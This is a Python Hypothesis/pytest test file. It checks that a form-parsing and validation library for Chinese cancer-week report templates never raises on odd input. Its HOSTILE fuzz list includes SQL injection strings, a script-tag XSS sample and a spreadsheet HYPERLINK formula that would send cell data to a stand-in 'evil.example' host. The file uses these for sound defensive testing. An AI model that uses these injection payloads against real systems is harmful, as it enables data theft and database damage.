"""Whatever the text, parsing and validation never raise and always return values and issues."""

from __future__ import annotations

import json

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from forms.issues import ERROR, WARNING, Issue
from forms.registry import TYPES, parse_field
from forms.spec import FieldSpec
from forms.types import Parsed
from forms.validate import ReportCheck, Validator

SETTINGS = settings(max_examples=150, deadline=None,
                    suppress_health_check=[HealthCheck.function_scoped_fixture])

# Pieces of real cells, so that generated text reaches deep into each parser.
FRAGMENTS = [
    "1431家", "；", "、", "，", ",", "\n", "等", "……", "约", "近", "超过", "余", "多", "左右", "万", "亿",
    "46.21", "1,234", "３８", "三千", "十五", "一万二千", "人", "人次", "场", "元", "万元", "份",
    "线下参与", "线上观看", "/", "2024年4月15-26日", "至", "~", "2024-04-15", "年", "月", "日",
    "http://", "https://a.com/x", "www.", "中国新闻网", "是", "否", "☑", "□", "1.", "027-", "138",
    "第30届", " ", "\t", "（", "）", "。", "-", ".", ":", "：", "0", "9", "〇", "零",
    # the grammar of issue 12: decimals and 大写 in Chinese, mixed forms, vague amounts, notes
    "点", "零点零一", "一点五万", "贰万陆仟", "元整", "正", "角", "分", "3千5百", "近万", "万余", "+",
    "数百", "几十", "上百", "若干", "12,00", "l2", "O", "I00", "\u200b", "\ufeff", "其中", "共",
    "（其中线上3场）", "（折页8000份、手册4000份）", "无", "暂无", "——", "/", "【", "】", "12,000",
    "共4060人次，其中线下参与860人，线上观看3200人次", "、", "1万20", "二〇二四", "兩", "萬",
]
fragments = st.lists(st.sampled_from(FRAGMENTS), max_size=30).map("".join)
any_text = st.one_of(st.text(max_size=300), fragments,
                     st.text(alphabet=st.characters(codec="utf-8"), max_size=100))

HOSTILE = [
    "\x00\x01\x02\x1b[31m\x7f\x9f", "\u202e1431家\u202c", "\u200f\u200e\u2066约3万人\u2069",
    "😀🎉👨‍👩‍👧‍👦 1000人", "🇨🇳" * 50, "'; DROP TABLE reports; --", "1; SELECT * FROM values",
    '=HYPERLINK("http://evil.example/?q="&A1,"点击")', "=1+1", "+SUM(A1:A9)", "@cmd",
    "<b>粗体</b><script>alert(1)</script>", "&amp;&lt;&gt;", "\r\n\r\n", "\ufeff四川省",
    "\ud7ff\ue000\uffff", "a\u0301\u0308", "１２３４５６７８９０" * 30, "9" * 5000, "万" * 5000,
    "、" * 5000, "http://" + "a" * 5000, "1." * 3000, "（" * 3000, "\\" * 100, "%s%d{0}",
]
HUGE = [("1431家；四川省肿瘤医院、http://a.com/x\n" * 30_000)[:1_000_000], "字" * 1_000_000,
        "1" * 1_000_000]


def spec_for(type_: str) -> FieldSpec:
    return FieldSpec(
        id="f", key="f", label="测试栏", full_label="测试栏", type=type_,
        unit={"count": "人", "money": "元", "name_list": "家"}.get(type_),
        options=("承办中国肿瘤学术大会", "承办协会常务理事会") if type_ in ("choice", "checklist") else (),
        max_length=1000 if type_ in ("text", "long_text") else None, min=0, max=10**12,
    )


def check_parsed(parsed: Parsed) -> None:
    assert isinstance(parsed, Parsed)
    json.dumps(parsed.value, ensure_ascii=False)
    assert isinstance(parsed.display, str)
    for issue in parsed.issues:
        assert isinstance(issue, Issue)
        assert issue.severity in (ERROR, WARNING)
        assert issue.message
        # The catch-all in FieldType.parse means a parser raised: that is a bug, not a verdict.
        assert issue.code != "unreadable", issue.message


@pytest.mark.parametrize("type_", sorted(TYPES))
@SETTINGS
@given(text=any_text)
def test_parse_never_raises(type_, text):
    check_parsed(parse_field(spec_for(type_), text))


# Figures as the issue-12 grammar writes them, each piece optional: 共约 3千5百 余 人次 （其中线上…）
FIGURE_TEXT = st.tuples(
    st.sampled_from(["", "共", "约", "近", "超过", "合计约", "线上观看", "其中", "计划", "-", "l"]),
    st.one_of(st.integers(0, 10**13).map(str), st.integers(0, 10**9).map(lambda n: f"{n:,}"),
              st.sampled_from(["零点零一", "一点五万", "贰万陆仟", "3千5百", "1万2", "万", "数百", "几十",
                               "12,00", "l2", "O", "二〇二四", "三四", "1万20", "4.5", "10W"])),
    st.sampled_from(["", "余", "多", "+", "来"]),
    st.sampled_from(["", "人", "人次", "场", "元", "元整", "家", "名", "平方米", "人/次"]),
    st.sampled_from(["", "左右", "以上"]),
    st.sampled_from(["", "（其中线上3场）", "（折页8000份、手册4000份）", "（共4060人次）", "（", "）"]),
    st.sampled_from(["", "\u200b", "\ufeff", "。"]),
).map("".join)


@pytest.mark.parametrize("type_", ["count", "money", "name_list", "decimal"])
@SETTINGS
@given(text=FIGURE_TEXT)
def test_figures_never_raise_and_never_half_read(type_, text):
    """Any combination either reads, or errs without a number: no "will be ignored"."""
    if type_ not in TYPES:
        return
    parsed = parse_field(spec_for(type_), text)
    check_parsed(parsed)
    if type_ != "name_list" and any(i.is_error for i in parsed.issues):
        codes = {i.code for i in parsed.issues if i.is_error}
        # out of the template's range is the figure written, kept beside its error
        assert parsed.value is None or codes <= {"out_of_range"}, text


@pytest.mark.parametrize("type_", sorted(TYPES))
@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_text(type_, text):
    check_parsed(parse_field(spec_for(type_), text))


@pytest.mark.parametrize("type_", sorted(TYPES))
def test_one_megabyte(type_):
    for text in HUGE:
        parsed = parse_field(spec_for(type_), text)
        check_parsed(parsed)
        assert "too_long_input" in [i.code for i in parsed.issues]


def test_control_and_direction_marks_do_not_reach_the_value():
    parsed = parse_field(spec_for("count"), "\u202e1431\x00人")
    assert parsed.value["value"] == 1431
    assert "control_chars" in [i.code for i in parsed.issues]
    text = parse_field(spec_for("text"), "<b>粗体</b>=HYPERLINK(\"x\")")
    assert text.value == "<b>粗体</b>=HYPERLINK(\"x\")"  # stored as typed; escaping is the exports' job


@pytest.mark.parametrize("template_id", ["cancer_week_summary", "association_award_summary"])
@SETTINGS
@given(data=st.data())
def test_validator_set_never_raises(templates, template_id, data):
    template = templates[template_id]
    keys = [s.key for s in template.leaves()] + [s.key for s in template.fields() if s.parts]
    validator = Validator(template)
    for _ in range(3):
        key = data.draw(st.sampled_from(keys))
        text = data.draw(st.one_of(any_text, st.sampled_from(HOSTILE)))
        touched = validator.set(key, text)
        assert isinstance(touched, set) and touched
        assert all(template.has(k) for k in touched)
        for k in touched:
            assert all(isinstance(i, Issue) for i in validator.issues_for(k))
    check = validator.check()
    assert isinstance(check, ReportCheck)
    json.dumps(check.to_dict(), ensure_ascii=False)
    assert all(i.code not in ("unreadable", "rule_failed") for i in check.issues)


def test_validator_with_every_field_hostile(templates):
    for template in templates.values():
        for text in HOSTILE + HUGE[:1]:
            raw = {s.key: text for s in template.leaves()}
            check = Validator(template, raw).check()
            json.dumps(check.to_dict(), ensure_ascii=False)
            assert all(i.code not in ("unreadable", "rule_failed") for i in check.issues)
